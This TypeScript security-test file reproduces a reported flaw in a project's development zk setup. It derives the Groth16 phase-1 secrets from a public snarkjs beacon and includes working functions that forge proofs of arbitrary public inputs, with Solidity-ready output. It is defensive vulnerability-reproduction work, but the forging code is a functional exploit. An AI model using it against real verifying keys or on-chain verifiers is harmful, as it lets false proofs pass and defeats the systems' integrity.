/**
 * SECURITY-TEST TOOL — NOT PART OF ANY PROVING PATH.
 *
 * Reproduces issue 11, point 10 ("the ceremony protects nothing"): the development phase-1 file is one
 * snarkjs beacon contribution on a fresh accumulator, with the public beacon DEV_BEACON_HASH. snarkjs
 * derives that contribution's secrets deterministically from the beacon:
 *
 *   rng = ChaCha(seed = sha256^(2^10)(beacon) as 8 big-endian u32)       (misc.rngFromBeaconParams)
 *   τ = Fr.fromRng(rng); α = Fr.fromRng(rng); β = Fr.fromRng(rng)        (keypair.createPTauKey)
 *
 * (the challenge hash only enters the proof-of-knowledge points drawn after them). Every Groth16 key built
 * on that file, however many phase-2 contributions it has, keeps vk_alpha_1 = α·G1, vk_beta_2 = β·G2, and
 * snarkjs sets vk_gamma_2 = G2. With αβ known, for ANY public inputs x:
 *
 *   A = αβ·G1 + IC(x),  B = G2,  C = O     (IC(x) = IC_0 + Σ x_i·IC_i, a public point)
 *
 * passes e(A, B) = e(α, β)·e(IC(x), γ)·e(C, δ) whatever δ is, because e(αβ·G1 + IC(x), G2) =
 * e(α·G1, β·G2)·e(IC(x), G2). No r1cs, τ or δ is needed. The fix is a phase 1 with at least one secret
 * contribution (cfl zk ceremony init --ptau, docs/operations.md), and a chain that refuses development keys.
 */
import { createHash } from "node:crypto";
import { bn254 } from "@noble/curves/bn254.js";
import { ZkInputError } from "./errors.js";
import { BN254_SCALAR_FIELD } from "./field.js";
import { DEV_BEACON_HASH, DEV_BEACON_ITERATIONS_EXP } from "./setup/ptau.js";
import type { Groth16Proof, SolidityProof } from "./types.js";

const R = BN254_SCALAR_FIELD;
/** Montgomery radix inverse for the scalar field: ffjavascript's Fr.fromRng returns v·R^-1 (R = 2^256). */
const R_INV = modPow((1n << 256n) % R, R - 2n, R);
const FR_MASK = (1n << 254n) - 1n;

function modPow(base: bigint, exp: bigint, m: bigint): bigint {
  let result = 1n;
  let b = base % m;
  let e = exp;
  while (e > 0n) {
    if (e & 1n) result = (result * b) % m;
    b = (b * b) % m;
    e >>= 1n;
  }
  return result;
}

/** ffjavascript's ChaCha20-based generator (src/chacha.js), word for word. */
class ChaCha {
  private readonly state: number[];
  private buff: number[] = new Array<number>(16).fill(0);
  private idx = 16;

  constructor(seed: readonly number[]) {
    this.state = [0x61707865, 0x3320646e, 0x79622d32, 0x6b206574, ...seed, 0, 0, 0, 0];
  }

  nextU32(): number {
    if (this.idx === 16) this.update();
    return this.buff[this.idx++]!;
  }

  nextU64(): bigint {
    const hi = BigInt(this.nextU32());
    const lo = BigInt(this.nextU32());
    return hi * 0x100000000n + lo;
  }

  private update(): void {
    const st = [...this.state];
    const qr = (a: number, b: number, c: number, d: number): void => {
      st[a] = (st[a]! + st[b]!) >>> 0;
      st[d] = rotl(st[d]! ^ st[a], 16);
      st[c] = (st[c]! + st[d]) >>> 0;
      st[b] = rotl(st[b]! ^ st[c], 12);
      st[a] = (st[a] + st[b]) >>> 0;
      st[d] = rotl(st[d] ^ st[a], 8);
      st[c] = (st[c] + st[d]) >>> 0;
      st[b] = rotl(st[b] ^ st[c], 7);
    };
    for (let i = 0; i < 10; i++) {
      qr(0, 4, 8, 12);
      qr(1, 5, 9, 13);
      qr(2, 6, 10, 14);
      qr(3, 7, 11, 15);
      qr(0, 5, 10, 15);
      qr(1, 6, 11, 12);
      qr(2, 7, 8, 13);
      qr(3, 4, 9, 14);
    }
    this.buff = st.map((v, i) => (v + this.state[i]!) >>> 0);
    this.idx = 0;
    for (let i = 12; i < 16; i++) {
      this.state[i] = (this.state[i]! + 1) >>> 0;
      if (this.state[i] !== 0) break;
    }
  }
}

function rotl(v: number, n: number): number {
  return ((v << n) | (v >>> (32 - n))) >>> 0;
}

/** misc.rngFromBeaconParams: 2^exp chained sha256 of the beacon seed the ChaCha generator. */
function rngFromBeacon(beaconHash: Buffer, iterationsExp: number): ChaCha {
  let h: Buffer = beaconHash;
  const n = 2 ** iterationsExp;
  for (let i = 0; i < n; i++) h = createHash("sha256").update(h).digest();
  const seed = Array.from({ length: 8 }, (_, i) => h.readUInt32BE(i * 4));
  return new ChaCha(seed);
}

/** ffjavascript's WasmField1.fromRng for BN254's Fr: 4 u64 words, masked to 254 bits, rejection, un-Montgomery. */
function frFromRng(rng: ChaCha): bigint {
  let v: bigint;
  do {
    v = 0n;
    for (let i = 0; i < 4; i++) v += rng.nextU64() << BigInt(64 * i);
    v &= FR_MASK;
  } while (v >= R);
  return (v * R_INV) % R;
}

export interface Phase1Secrets {
  readonly tau: bigint;
  readonly alpha: bigint;
  readonly beta: bigint;
}

/**
 * The secrets of a phase-1 beacon contribution (snarkjs powersoftau beacon), from its public beacon value.
 * On a fresh accumulator with one beacon, these are the file's τ, α, β.
 */
export function beaconPhase1Secrets({
  beaconHash,
  iterationsExp,
}: {
  beaconHash: string;
  iterationsExp: number;
}): Phase1Secrets {
  if (!/^([0-9a-fA-F]{2})+$/.test(beaconHash)) throw new ZkInputError("beacon hash must be hex (no 0x)");
  if (!Number.isInteger(iterationsExp) || iterationsExp < 10 || iterationsExp > 30) {
    throw new ZkInputError("beacon iterations exponent must be an integer in [10, 30]");
  }
  const rng = rngFromBeacon(Buffer.from(beaconHash, "hex"), iterationsExp);
  const tau = frFromRng(rng);
  const alpha = frFromRng(rng);
  const beta = frFromRng(rng);
  return { tau, alpha, beta };
}

/** τ, α, β of circular-fl's development phase-1 file (any power): public, by construction. */
export function developmentPhase1Secrets(): Phase1Secrets {
  return beaconPhase1Secrets({ beaconHash: DEV_BEACON_HASH, iterationsExp: DEV_BEACON_ITERATIONS_EXP });
}

type G1Point = ReturnType<typeof bn254.G1.Point.fromAffine>;
type G2Point = ReturnType<typeof bn254.G2.Point.fromAffine>;

function coord(value: unknown, what: string): bigint {
  if (typeof value !== "string" || !/^\d+$/.test(value))
    throw new ZkInputError(`${what} must be a decimal string`);
  return BigInt(value);
}

function g1(value: unknown, what: string): G1Point {
  if (!Array.isArray(value) || value.length !== 3 || value[2] !== "1") {
    throw new ZkInputError(`${what} must be an affine snarkjs G1 point [x, y, "1"]`);
  }
  try {
    const p = bn254.G1.Point.fromAffine({ x: coord(value[0], what), y: coord(value[1], what) });
    p.assertValidity();
    return p;
  } catch (err) {
    if (err instanceof ZkInputError) throw err;
    throw new ZkInputError(`${what} is not a BN254 G1 point`);
  }
}

function g2(value: unknown, what: string): G2Point {
  const pair = (v: unknown): { c0: bigint; c1: bigint } => {
    if (!Array.isArray(v) || v.length !== 2) throw new ZkInputError(`${what} must be a snarkjs G2 point`);
    return { c0: coord(v[0], what), c1: coord(v[1], what) };
  };
  if (!Array.isArray(value) || value.length !== 3)
    throw new ZkInputError(`${what} must be a snarkjs G2 point`);
  const z = pair(value[2]);
  if (z.c0 !== 1n || z.c1 !== 0n) throw new ZkInputError(`${what} must be affine (z = [1, 0])`);
  try {
    const p = bn254.G2.Point.fromAffine({ x: pair(value[0]), y: pair(value[1]) });
    p.assertValidity();
    return p;
  } catch (err) {
    if (err instanceof ZkInputError) throw err;
    throw new ZkInputError(`${what} is not a BN254 G2 point`);
  }
}

export interface ForgedProof {
  /** snarkjs JSON form (pi_c is the point at infinity, [0, 1, 0] projective). */
  readonly proof: Groth16Proof;
  /** The public signals the proof "proves", as decimal strings. */
  readonly publicSignals: string[];
  /** The verifier contract's uint256[8] layout (toSolidityProof order; infinity as (0, 0) for EIP-196). */
  readonly solidity: SolidityProof;
}

/**
 * Forges a Groth16 proof for arbitrary public inputs against any key whose phase-1 α and β are known.
 * Validates the key first and refuses one whose α·G1 / β·G2 / γ do not match `secrets`.
 */
export function forgeProofFromPhase1Secrets({
  vkey,
  publicSignals,
  secrets,
}: {
  vkey: Record<string, unknown>;
  publicSignals: readonly (string | bigint)[];
  secrets: Pick<Phase1Secrets, "alpha" | "beta">;
}): ForgedProof {
  if (vkey === null || typeof vkey !== "object") throw new ZkInputError("vkey must be a snarkjs vkey object");
  if (vkey.protocol !== "groth16" || vkey.curve !== "bn128") {
    throw new ZkInputError("vkey must be a groth16 key on bn128");
  }
  const ic = vkey.IC;
  if (!Array.isArray(ic) || ic.length < 1) throw new ZkInputError("vkey.IC must be a non-empty point list");
  if (publicSignals.length !== ic.length - 1) {
    throw new ZkInputError(`the key takes ${ic.length - 1} public signals, got ${publicSignals.length}`);
  }
  const signals = publicSignals.map((s, i) => {
    const v = typeof s === "bigint" ? s : /^\d+$/.test(s) ? BigInt(s) : -1n;
    if (v < 0n || v >= R) throw new ZkInputError(`public signal ${i} is not a field element: ${String(s)}`);
    return v;
  });
  const G1 = bn254.G1.Point.BASE;
  const G2 = bn254.G2.Point.BASE;
  const alpha1 = g1(vkey.vk_alpha_1, "vk_alpha_1");
  const beta2 = g2(vkey.vk_beta_2, "vk_beta_2");
  const gamma2 = g2(vkey.vk_gamma_2, "vk_gamma_2");
  if (!alpha1.equals(G1.multiply(secrets.alpha)) || !beta2.equals(G2.multiply(secrets.beta))) {
    throw new ZkInputError(
      "this verifying key's alpha/beta are not the given phase-1 secrets: it was not built on that phase 1",
    );
  }
  if (!gamma2.equals(G2)) throw new ZkInputError("vk_gamma_2 is not the G2 generator (not a snarkjs key)");
  let icx = g1(ic[0], "IC[0]");
  signals.forEach((s, i) => {
    if (s !== 0n) icx = icx.add(g1(ic[i + 1], `IC[${i + 1}]`).multiply(s));
  });
  const a = icx.add(G1.multiply((secrets.alpha * secrets.beta) % R)).toAffine();
  const b = G2.toAffine();
  const proof: Groth16Proof = {
    pi_a: [a.x.toString(), a.y.toString(), "1"],
    pi_b: [
      [b.x.c0.toString(), b.x.c1.toString()],
      [b.y.c0.toString(), b.y.c1.toString()],
      ["1", "0"],
    ],
    pi_c: ["0", "1", "0"],
    protocol: "groth16",
    curve: "bn128",
  };
  return {
    proof,
    publicSignals: signals.map(String),
    solidity: [a.x, a.y, b.x.c1, b.x.c0, b.y.c1, b.y.c0, 0n, 0n],
  };
}

/**
 * SECURITY TEST: a proof of arbitrary public signals that every key built on the development phase-1 file
 * accepts (development keys from `npm run zk:setup`, and any "ceremony" on that file). Throws for a key
 * built on any other phase 1.
 */
export function forgeDevelopmentProof({
  vkey,
  publicSignals,
}: {
  vkey: Record<string, unknown>;
  publicSignals: readonly (string | bigint)[];
}): ForgedProof {
  return forgeProofFromPhase1Secrets({ vkey, publicSignals, secrets: developmentPhase1Secrets() });
}
